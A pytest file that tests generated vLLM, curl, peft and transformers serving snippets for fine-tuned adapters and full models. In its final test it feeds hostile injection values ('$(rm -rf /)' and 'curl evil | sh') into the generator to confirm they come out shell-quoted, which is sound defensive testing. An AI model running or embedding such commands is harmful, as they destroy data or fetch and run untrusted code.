"""Snippets: what an engine would refuse is not handed out, and no value can run something else."""

import json
import shlex
from typing import Any

import pytest

from finetune_operator.api.status import AdapterSeen
from finetune_operator.status.serving import VLLM_RANKS, snippets

BASE = "Qwen/Qwen3-0.6B"


def found(**facts: Any) -> dict[str, str]:
    given = {"uri": "s3://b/x", "digest": "d", "type": "LoRA", "rank": 16, "base_model": BASE}
    return snippets(AdapterSeen(**{**given, **facts}), "job")


def test_an_adapter_over_a_base_of_the_hub():
    made = found()
    assert made.keys() == {"vllm", "curl", "peft", "download"}
    assert shlex.split(made["vllm"]) == [
        "vllm", "serve", BASE, "--enable-lora", "--max-lora-rank", "16", "--lora-modules", "job=./job",
    ]  # fmt: skip
    *_, asked = shlex.split(made["curl"])
    assert json.loads(asked)["model"] == "job"


@pytest.mark.parametrize(("rank", "asked"), [(1, 8), (4, 8), (8, 8), (24, 32), (300, 320), (512, 512)])
def test_vllm_is_asked_for_a_rank_that_it_knows(rank, asked):
    assert f"--max-lora-rank {asked} " in found(rank=rank)["vllm"]
    assert asked in VLLM_RANKS


@pytest.mark.parametrize(
    "facts",
    [{"beyond": ["dora"]}, {"rank": 1024}, {"base_model": "s3://b/base"}],
    ids=lambda one: next(iter(one)),
)
def test_an_adapter_that_vllm_cannot_serve_is_served_merged_or_not_at_all(facts):
    assert "vllm" not in found(**facts)
    assert "curl" not in found(**facts)
    assert found(**facts, merged=True)["vllm"] == "vllm serve ./job/merged --served-model-name job"


def test_a_base_without_a_name_is_loaded_by_nobody():
    assert "peft" not in found(base_model="pvc://models/tiny")


@pytest.mark.parametrize(
    ("facts", "where"), [({"merged": True}, "./job/merged"), ({"type": "Full", "rank": None}, "./job")]
)
def test_whole_weights_are_loaded_by_transformers_alone(facts, where):
    assert found(**facts)["transformers"].endswith(f'AutoModelForCausalLM.from_pretrained("{where}")')


def test_all_weights_are_served_as_a_model_of_their_own():
    assert found(type="Full", rank=None)["vllm"] == "vllm serve ./job --served-model-name job"
    assert "peft" not in found(type="Full", rank=None)


def test_snippets_cannot_be_made_to_run_something_else():
    made = found(uri="s3://b/$(rm -rf /)", base_model="x; curl evil | sh")
    assert "'x; curl evil | sh'" in made["vllm"]
    assert "'s3://b/$(rm -rf /)'" in made["download"]
